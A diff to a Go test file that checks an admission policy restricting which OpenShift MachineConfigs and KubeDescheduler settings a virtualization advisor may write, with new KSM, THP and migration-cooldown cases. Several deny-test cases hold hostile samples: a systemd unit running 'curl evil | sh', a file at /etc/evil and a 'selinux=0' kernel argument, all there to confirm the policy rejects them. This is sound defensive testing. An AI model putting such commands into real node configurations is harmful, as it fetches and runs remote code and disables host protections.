@@ -396,6 +396,8 @@ type profileTargets struct {
 	roles       map[string]string   // MachineConfig -> pool
 	fields      map[string][]string // resource or resource:name -> managed fields (without "spec.")
 	swapConfig  map[string]interface{}
+	ksmConfig   map[string]interface{} // the KSM zero-pages MachineConfig's spec.config
+	thpArgs     [][]interface{}
 	psiArgs     [][]interface{}
 	exampleData []string
 }
@@ -444,6 +446,11 @@ func collectTargets(t *testing.T) profileTargets {
 					case it.Absent:
 					case d.GetName() == "90-worker-kubelet-swap":
 						pt.swapConfig, _, _ = unstructured.NestedMap(d.Object, "spec", "config")
+					case d.GetName() == "90-worker-ksm-zero-pages":
+						pt.ksmConfig, _, _ = unstructured.NestedMap(d.Object, "spec", "config")
+					case d.GetName() == "90-worker-thp-madvise":
+						args, _, _ := unstructured.NestedSlice(d.Object, "spec", "kernelArguments")
+						pt.thpArgs = append(pt.thpArgs, args)
 					case strings.HasSuffix(d.GetName(), "-psi-karg"):
 						args, _, _ := unstructured.NestedSlice(d.Object, "spec", "kernelArguments")
 						pt.psiArgs = append(pt.psiArgs, args)
@@ -599,11 +606,22 @@ func TestPolicyNamesWhatTheProfilesWrite(t *testing.T) {
 		}
 	}
 
-	// The swap configuration: exactly these three fields, pinned.
-	if syncBlock(t, swapStart, swapBlock(t, pt.swapConfig)) {
+	for _, args := range pt.thpArgs {
+		if !reflect.DeepEqual(args, []interface{}{"transparent_hugepage=madvise"}) {
+			t.Errorf("the THP MachineConfig sets kernel arguments %v; the policy allows transparent_hugepage=madvise only", args)
+		}
+	}
+	if pt.ksmConfig == nil || len(pt.thpArgs) == 0 {
+		t.Fatal("no example writes the KSM zero-pages and THP MachineConfigs: the policy's rules for them go untested")
+	}
+
+	// The swap configuration: exactly these three fields, pinned; the KSM
+	// zero-pages configuration whole.
+	if syncBlock(t, swapStart, swapBlock(t, pt.swapConfig, pt.ksmConfig)) {
 		policy, _ = readPolicy(t)
 	}
 	for name, want := range map[string]interface{}{
+		"ksmZeroPagesConfig":  pt.ksmConfig,
 		"swapIgnitionVersion": pt.swapConfig["ignition"].(map[string]interface{})["version"],
 		"swapFiles":           pt.swapConfig["storage"].(map[string]interface{})["files"],
 		"swapUnits":           pt.swapConfig["systemd"].(map[string]interface{})["units"],
@@ -632,6 +650,8 @@ func TestDeniesEverythingElse(t *testing.T) {
 	}
 	psi := created(desired["enable-psi-metrics"], "load-aware-rebalancing")
 	swap := created(desired["enable-kubelet-swap"], "virt-higher-density")
+	ksmMC := created(desired["enable-ksm-zero-pages"], "virt-higher-density")
+	thpMC := created(desired["enable-thp-madvise"], "virt-higher-density")
 	pool := readObject(t, filepath.Join("..", "testdata", "baseline.yaml"), "MachineConfigPool")
 	hcoObj, _ := c.Get(context.Background(), kubevirt.HyperConvergedGVK.GroupVersion().WithKind("HyperConverged"), kubevirt.HCONamespace, kubevirt.HCOName)
 	kd, _ := c.Get(context.Background(), profiles.KubeDeschedulerGVK, profiles.DeschedulerNamespace, profiles.DeschedulerName)
@@ -673,7 +693,7 @@ func TestDeniesEverythingElse(t *testing.T) {
 		want string // in the denial; "" when admitted
 	}{
 		{"a MachineConfig of another name", request{op: admission.Create, gvr: machineConfigs, obj: evil},
-			"virt-advisor-apiserver writes only the machineconfiguration.openshift.io/machineconfigs 99-worker-psi-karg, 99-master-psi-karg, 90-worker-kubelet-swap, 50-<pool>-virt-advisor-hugepages, 50-<pool>-virt-advisor-pci-passthrough, not 00-worker-evil"},
+			"virt-advisor-apiserver writes only the machineconfiguration.openshift.io/machineconfigs 99-worker-psi-karg, 99-master-psi-karg, 90-worker-kubelet-swap, 90-worker-ksm-zero-pages, 90-worker-thp-madvise, 50-<pool>-virt-advisor-hugepages, 50-<pool>-virt-advisor-pci-passthrough, not 00-worker-evil"},
 		// MachineConfigs named after the pool the options choose: RBAC
 		// grants their verbs for the kind, the policy confines them.
 		{"huge pages for a pool", request{op: admission.Create, gvr: machineConfigs, obj: hpFor("worker-cnv")}, ""},
@@ -694,6 +714,23 @@ func TestDeniesEverythingElse(t *testing.T) {
 		})}, "changes only spec.kernelArguments of machineconfiguration.openshift.io/machineconfigs 50-worker-virt-advisor-pci-passthrough"},
 		{"deleting the IOMMU MachineConfig", request{op: admission.Delete, gvr: machineConfigs, old: iommu}, ""},
 		{"patching 00-worker", request{op: admission.Update, gvr: machineConfigs, old: renamed(psi, "", "00-worker"), obj: renamed(psi, "", "00-worker")}, "not 00-worker"},
+		{"the KSM zero-pages MachineConfig running another command", request{op: admission.Create, gvr: machineConfigs, obj: changed(ksmMC, func(o map[string]interface{}) {
+			units, _, _ := unstructured.NestedSlice(o, "spec", "config", "systemd", "units")
+			units[0].(map[string]interface{})["contents"] = "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"
+			set(o, units, "spec", "config", "systemd", "units")
+		})}, "writes only the KSM zero-pages configuration of virt-higher-density"},
+		{"a file added to the KSM zero-pages MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: ksmMC, obj: edited(ksmMC, func(o map[string]interface{}) {
+			set(o, map[string]interface{}{"files": []interface{}{map[string]interface{}{"path": "/etc/evil"}}}, "spec", "config", "storage")
+		})}, "writes only the KSM zero-pages configuration of virt-higher-density"},
+		{"the KSM zero-pages MachineConfig for the master pool", request{op: admission.Create, gvr: machineConfigs, obj: changed(ksmMC, func(o map[string]interface{}) {
+			set(o, "master", "metadata", "labels", machineconfig.RoleLabel)
+		})}, "writes MachineConfig 90-worker-ksm-zero-pages only for pool worker"},
+		{"a kernel argument other than transparent_hugepage=madvise", request{op: admission.Create, gvr: machineConfigs, obj: changed(thpMC, func(o map[string]interface{}) {
+			set(o, []interface{}{"transparent_hugepage=madvise", "selinux=0"}, "spec", "kernelArguments")
+		})}, "adds no kernel argument to 90-worker-thp-madvise but transparent_hugepage=madvise"},
+		{"a config in the THP MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: thpMC, obj: edited(thpMC, func(o map[string]interface{}) {
+			set(o, map[string]interface{}{"ignition": map[string]interface{}{"version": "3.2.0"}}, "spec", "config")
+		})}, "changes only spec.kernelArguments of machineconfiguration.openshift.io/machineconfigs 90-worker-thp-madvise"},
 		{"the same by another user", request{user: "system:admin", op: admission.Create, gvr: machineConfigs, obj: evil}, ""},
 		{"a worker MachineConfig for the master pool", request{op: admission.Create, gvr: machineConfigs, obj: changed(psi, func(o map[string]interface{}) {
 			set(o, "master", "metadata", "labels", machineconfig.RoleLabel)
@@ -824,7 +861,19 @@ func TestDeniesEverythingElse(t *testing.T) {
 		})}, "sets spec.managementState of the KubeDescheduler to Managed only, not Removed"},
 		{"a customization no profile sets", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
 			set(o, "High", "spec", "profileCustomizations", "devLowNodeUtilizationThresholds")
-		})}, "sets in spec.profileCustomizations of the KubeDescheduler only the values load-aware-rebalancing writes to devDeviationThresholds, devEnableEvictionsInBackground, devEnableSoftTainter; not to devLowNodeUtilizationThresholds"},
+		})}, "sets in spec.profileCustomizations of the KubeDescheduler only the values load-aware-rebalancing writes to devDeviationThresholds, devEnableEvictionsInBackground, devEnableSoftTainter, devMaxMigrationCooldown, devMigrationCooldown, devMigrationHistoryWindow; not to devLowNodeUtilizationThresholds"},
+		{"a migration cooldown above its option's range", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
+			set(o, "25h0m0s", "spec", "profileCustomizations", "devMigrationCooldown")
+		})}, "not to devMigrationCooldown"},
+		{"a migration cooldown of no time", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
+			set(o, "0s", "spec", "profileCustomizations", "devMigrationCooldown")
+		})}, "not to devMigrationCooldown"},
+		{"a history window that is not a duration", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
+			set(o, "forever", "spec", "profileCustomizations", "devMigrationHistoryWindow")
+		})}, "not to devMigrationHistoryWindow"},
+		{"a maximum cooldown that is a number", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
+			set(o, int64(3600), "spec", "profileCustomizations", "devMaxMigrationCooldown")
+		})}, "not to devMaxMigrationCooldown"},
 		{"a customization of ours turned off", request{op: admission.Update, gvr: kubeDeschedulers, old: kd, obj: edited(kdOurs, func(o map[string]interface{}) {
 			set(o, false, "spec", "profileCustomizations", "devEnableSoftTainter")
 		})}, "not to devEnableSoftTainter"},
